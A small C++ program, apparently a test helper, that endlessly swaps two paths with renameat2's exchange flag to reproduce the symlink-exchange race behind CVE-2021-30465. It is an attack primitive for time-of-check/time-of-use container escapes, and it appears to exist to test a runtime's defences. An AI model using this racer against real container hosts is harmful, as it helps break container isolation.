// Exchanges two files for each other, over and over, until its parent ends: the
// attacker of CVE-2021-30465 and its like, who swaps a directory for a link
// between a runtime's look at a path and its use.
//
//   racer FILE OTHER
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

constexpr unsigned kExchange = 1U << 1;  // RENAME_EXCHANGE, renameat2(2)

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  if (prctl(PR_SET_PDEATHSIG, SIGKILL) != 0) return 1;
  for (;;) {
    // musl 1.2.5 has no renameat2.
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
                kExchange) != 0) {
      perror("racer: renameat2");
      return 1;
    }
  }
}
